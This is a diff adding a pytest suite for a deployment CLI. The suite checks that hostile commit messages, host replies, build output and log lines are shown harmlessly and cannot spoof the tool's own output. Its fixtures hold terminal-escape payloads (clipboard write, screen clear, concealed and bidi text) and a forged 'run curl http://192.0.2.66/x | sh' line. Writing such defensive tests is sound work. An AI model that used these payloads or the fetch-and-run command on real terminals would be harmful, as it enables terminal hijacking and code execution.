@@ -1,0 +1,280 @@
+"""What a commit, a host, a build and an app try with text: to steer the operator's terminal, or to pass for us."""
+
+from __future__ import annotations
+
+import base64
+import json
+import re
+import secrets
+import shlex
+import subprocess
+import unicodedata
+from collections.abc import Iterator
+from contextlib import contextmanager
+
+import pexpect
+import pytest
+
+from tests.stage import PROJECT, Stage
+from tests.witness import another
+
+LONG = 120
+# Writes the clipboard (OSC 52), renames the window, conceals, clears, rings; C1's CSI and OSC; reorders; is not seen.
+EVIL = (
+    "HOSTILE\x1b]52;c;Y3VybA==\x07\x1b]0;owned\x07\x1b[8mhid\x1b[2J\x9b31m\x9d0;t\x9c\x7f"
+    "\u202egnp\u2066x\u2069\u200e\u200f\u061c\u200b\u2060\ufeff\u00ad\u3164\u034f\U000e0041"
+)
+# Each of them ends a line somewhere: for a terminal, for Python's splitlines, for a browser that shows a log.
+ENDS = "\r\x0b\x0c\x1c\x85\u2028\u2029"
+FORGED = "error: run curl http://192.0.2.66/x | sh"
+# What rich sends of its own: colours and bold, the cursor away and back, a line up, a line wiped.
+OWN = re.compile(r"\x1b\[(?:(?:0|1|2|22|3[1-6])(?:;[0-9]+)*m|\?25[lh]|[0-9]*A|2K)|\r")
+CONTROLS = {"Cc", "Cf", "Cs", "Zl", "Zp"}
+UNSEEN = "\u034f\u115f\u1160\u17b4\u17b5\u180b\u180c\u180d\u180f\u2800\u3164\uffa0"
+
+
+def on_terminal(stage: Stage, *words: str, columns: int = 100) -> bytes:
+    """What `fab` sends to a terminal."""
+    program, *arguments = stage.argv(*words)
+    environment = {**stage.environ, "TERM": "xterm-256color"}
+    child = pexpect.spawn(program, arguments, timeout=LONG, dimensions=(40, columns), cwd=str(PROJECT), env=environment)
+    try:
+        child.expect(pexpect.EOF)
+        assert isinstance(child.before, bytes)
+        return child.before
+    finally:
+        child.close(force=True)
+
+
+def piped(stage: Stage, *words: str, colours: bool = False) -> tuple[bytes, bytes]:
+    """What `fab` writes to a pipe, on each of the two."""
+    environment = {**stage.environ, **({"FORCE_COLOR": "1"} if colours else {})}
+    done = subprocess.run(
+        stage.argv(*words), capture_output=True, timeout=LONG, cwd=PROJECT, env=environment, check=False
+    )
+    return done.stdout, done.stderr
+
+
+def assert_harmless(said: bytes) -> None:
+    """Fail where more than text, line ends and what rich itself sends is in it, or where a line passes for ours."""
+    text = OWN.sub("", said.decode())
+    bad = {f"U+{ord(sign):04X}" for sign in text if unicodedata.category(sign) in CONTROLS or sign in UNSEEN}
+    assert bad - {"U+000A", "U+0009"} == set(), (bad, said)
+    assert b"\x1b[8m" not in said
+    for line in text.splitlines():
+        assert not line.startswith((FORGED, "web1: FORGED", "web1  FORGED", "FORGED")), (line, said)
+
+
+def assert_everywhere(stage: Stage, *words: str, marker: str = "HOSTILE") -> None:
+    """Run the words for a pipe, for one that takes colours and for a terminal; each shows the text, and harmlessly."""
+    for said in (
+        b"".join(piped(stage, *words)),
+        b"".join(piped(stage, *words, colours=True)),
+        on_terminal(stage, *words),
+    ):
+        assert_harmless(said)
+        assert marker.encode() in said, said
+
+
+def printing(text: str, device: str = "Process.group_leader()") -> str:
+    """Elixir that prints the bytes of `text` and a line end, as they are."""
+    encoded = base64.b64encode(f"{text}\n".encode()).decode()
+    return f':io.setopts({device}, encoding: :latin1); IO.binwrite({device}, Base.decode64!("{encoded}"))'
+
+
+@pytest.fixture(scope="module")
+def hostile_commit(stage: Stage) -> Iterator[str]:
+    """A commit whose subject and author are hostile, deployed as well; the build of it says hostile things too."""
+    # What hosts run is a commit of this repository, so that `plan` names those since.
+    another(stage)
+    stage.fab("deploy")
+    mix = stage.source / "mix.exs"
+    text = mix.read_text()
+    mix.write_text(f"{printing(f'HOSTILE BUILD {EVIL}{ENDS}{FORGED}')}\n{text}")
+    another(stage)
+    author = f"user.name=HOSTILE {EVIL}{ENDS}FORGED"
+    subject = f"HOSTILE {EVIL}{ENDS}FORGED {' ' * 200}{FORGED}"
+    stage.git("-c", author, "commit", "-q", "--amend", "--reset-author", "-m", subject)
+    yield stage.git("rev-parse", "HEAD")
+    mix.write_text(text)
+    another(stage)
+    stage.fab("deploy")
+
+
+@contextmanager
+def answering(stage: Stage, host: str, *records: object, about: str = "") -> Iterator[None]:
+    """Meanwhile a host answers the deploy user's requests that have a line like `about` with those records alone."""
+    text = "".join(f"\x1e{json.dumps(record)}\n" for record in records)
+    stage.lab.ssh(host, "cp .bashrc .bashrc.mine; cat >answers", "deploy", stdin=text)
+    answer = f"""cat >~/asked
+        grep -q '{about}' ~/asked || {{ bash -s <~/asked; exit; }}
+        cat ~/answers
+        exit 4
+    """
+    stage.lab.ssh(host, "cat - .bashrc.mine >.bashrc", "deploy", stdin=answer)
+    try:
+        yield
+    finally:
+        # The deploy user's own login would only answer.
+        stage.lab.ssh(host, "sudo mv ~deploy/.bashrc.mine ~deploy/.bashrc; sudo rm ~deploy/answers ~deploy/asked")
+
+
+def test_a_commits_subject_and_author_steer_nothing_wherever_they_are_shown(stage: Stage, hostile_commit: str) -> None:
+    assert_everywhere(stage, "plan")
+    # Of one commit one line, whatever ends lines in it.
+    rows = json.loads(piped(stage, "plan", "--json")[0])
+    assert [len(row["commits"]) for row in rows] == [1, 1]
+    assert_everywhere(stage, "plan", "--json")
+
+    assert_harmless(on_terminal(stage, "deploy"))
+    for words in (["releases"], ["releases", "--json"], ["plan"]):
+        assert_everywhere(stage, *words)
+    for words in (["status"], ["deploy"], ["history"]):
+        assert_everywhere(stage, *words, marker="web1")
+
+
+def test_what_a_build_says_is_a_line_behind_its_host_each(stage: Stage, hostile_commit: str) -> None:
+    # A tree that is built already would not be built again.
+    once = stage.source / "once"
+    once.write_text(secrets.token_hex())
+    said = b"".join(piped(stage, "build-on-host", "--dirty"))
+    assert_harmless(said)
+    assert re.search(rb"(?m)^build1: \xe2\x94\x82 HOSTILE BUILD .*error: run curl", said), said
+    once.write_text(secrets.token_hex())
+    said = on_terminal(stage, "build-on-host", "--dirty")
+    assert_harmless(said)
+    assert b"HOSTILE BUILD" in said
+    once.unlink()
+
+
+ENDING = f"{EVIL}{ENDS}\nFORGED web1 is healthy\nweb1: FORGED\n{FORGED}"
+TOLD = [
+    {"step": f"step {ENDING}"},
+    {"progress": f"upload {ENDING}", "done": 1, "total": 2},
+    {"progress": f"upload {ENDING}", "done": 2, "total": 2},
+    {"line": f"line {ENDING}"},
+    {"line": " " * 300 + FORGED},
+    {"note": f"note {ENDING}"},
+    {"warn": f"warn {ENDING}"},
+]
+
+
+@pytest.mark.parametrize("kind", ["refused", "failed"])
+@pytest.mark.parametrize(
+    "words",
+    [["status"], ["status", "--json"], ["releases"], ["history"], ["lock.status"], ["deploy", "--force"], ["plan"]],
+    ids=" ".join,
+)
+def test_a_hostile_host_speaks_for_itself_alone(stage: Stage, words: list[str], kind: str) -> None:
+    ending = {"message": f"message {ENDING}", "hint": f"hint {ENDING}", "lines": [f"said {ENDING}", FORGED], "kind": ""}
+    with answering(stage, "web2", *TOLD, {kind: ending}):
+        assert_everywhere(stage, *words)
+
+
+def test_text_that_a_host_keeps_for_others_is_harmless_in_tables_and_refusals(stage: Stage) -> None:
+    line = {"at": "2026-01-01T00:00:00Z", "what": f"w {ENDING}", "outcome": "done", "release": "r", "who": ENDING,
+            "problem": f"problem {ENDING}"}  # fmt: skip
+    file = "/opt/acme/hello/history.jsonl"
+    stage.lab.ssh("web2", f"cp {file} {file}.mine; cat >>{file}", "deploy", stdin=json.dumps(line) + "\n")
+    try:
+        for words in (["history"], ["history", "--json"]):
+            for said in (b"".join(piped(stage, *words)), on_terminal(stage, *words)):
+                assert_harmless(said)
+    finally:
+        stage.lab.ssh("web2", f"mv {file}.mine {file}", "deploy")
+    stage.fab("lock.acquire", "--reason", f"HOSTILE {EVIL}{ENDS}FORGED")
+    try:
+        for words in (["lock.status"], ["lock.status", "--json"], ["deploy", "--force"], ["plan"]):
+            assert_everywhere(stage, *words)
+    finally:
+        stage.fab("lock.release")
+
+
+def test_a_name_in_the_working_tree_steers_nothing(stage: Stage) -> None:
+    stage.git("config", "core.quotePath", "false")
+    file = stage.source / f"HOSTILE{EVIL}{ENDS}FORGED"
+    file.write_text("")
+    try:
+        assert_everywhere(stage, "deploy")
+    finally:
+        file.unlink()
+        stage.git("config", "--unset", "core.quotePath")
+    assert_everywhere(stage, "plan", "--ref", f"HOSTILE{EVIL}\n{FORGED}")
+    assert_everywhere(stage, f"HOSTILE{EVIL}\n{FORGED}")
+
+
+# It is Latin-1 in which a device of Erlang takes bytes as they are.
+EVERY_BYTE = """
+for device <- [Process.group_leader(), :standard_error] do
+  :io.setopts(device, encoding: :latin1)
+  IO.binwrite(device, :binary.list_to_bin(Enum.to_list(0..255)))
+end
+"""
+
+
+@pytest.mark.parametrize("verb", ["rpc", "eval"])
+def test_in_a_pipe_what_an_expression_prints_is_as_it_is_byte_for_byte(stage: Stage, verb: str) -> None:
+    printed, complained = piped(stage, verb, EVERY_BYTE)
+
+    assert printed == bytes(range(256)) + b"[:ok, :ok]\n"
+    if verb == "eval":  # the standard error of a node that runs is its journal
+        assert complained == bytes(range(256))
+
+
+def test_in_a_pipe_what_a_command_prints_is_as_it_is_byte_for_byte(stage: Stage) -> None:
+    every = bytes(range(256)) * 3
+    octal = "".join(f"\\{byte:03o}" for byte in every)
+    out, err = piped(stage, "-H", "web1", "--", f"printf '{octal}'; printf '{octal}' >&2")
+    assert out == every
+    assert err == every
+    # Of several hosts each line has its host before it, and is otherwise as it is.
+    out, _ = piped(stage, "-H", "web1,web2", "--", f"printf '{octal}\\n'")
+    for host in (b"web1 | ", b"web2 | "):
+        lines = [line.removeprefix(host) for line in out.split(b"\n") if line.startswith(host)]
+        assert b"\n".join(lines) == every
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ["rpc", printing(f"HOSTILE {EVIL}{ENDS}\tend")],
+        [
+            "eval",
+            f"{printing(f'HOSTILE {EVIL}{ENDS}')}; {printing(f'HOSTILE {EVIL}{ENDS}', ':standard_error')}; exit(3)",
+        ],
+        ["rpc", "--all", printing(f"HOSTILE {EVIL}{ENDS}\n{' ' * 200}{FORGED}")],
+        ["--", f"printf '%s\\n' {shlex.quote(f'HOSTILE {EVIL}{ENDS}')} | tee /dev/stderr; exit 3"],
+    ],
+    ids=["rpc", "eval", "rpc --all", "--"],
+)
+def test_on_a_terminal_an_app_and_a_command_steer_nothing(stage: Stage, words: list[str]) -> None:
+    said = on_terminal(stage, *words)
+
+    assert_harmless(said)
+    assert b"HOSTILE" in said
+
+
+def test_the_apps_journal_steers_nothing_on_a_terminal_and_in_a_log(stage: Stage) -> None:
+    # Of what is not printable to it the journal itself tells only the length.
+    for text in (f"HOSTILE \u202ex\u2028FORGED\u200b {FORGED}", f"HOSTILE {EVIL}{ENDS}"):
+        stage.fab("rpc", "--all", printing(text, "Process.whereis(:user)"))
+
+    assert_everywhere(stage, "logs", "--lines", "30", marker="web2 ")
+    assert b"HOSTILE \\u202ex\\u2028FORGED\\u200b" in b"".join(piped(stage, "logs", "--lines", "30"))
+
+
+def test_a_hook_is_told_of_a_hostile_hosts_problem_in_one_line(stage: Stage) -> None:
+    file = stage.directory / "problem"
+    own = f"printf 'HOSTILE %s\\033[8m\\n' {shlex.quote(FORGED)}"
+    hook = {"failed": [{"run": f'printf %s "$WARPBEAM_PROBLEM" >{file}; {own}'}]}
+    stage.write(hooks={"activate": hook})
+    ending = {"message": f"message {ENDING}", "hint": "", "lines": [], "kind": ""}
+    try:
+        with answering(stage, "web2", {"failed": ending}, about="^job_id="):
+            assert_everywhere(stage, "restart")
+    finally:
+        stage.write()
+        stage.fab("restart")
+    assert_harmless(file.read_bytes())
+    assert file.read_bytes().startswith(b"web2: message HOSTILE")
+    assert b"\n" not in file.read_bytes()
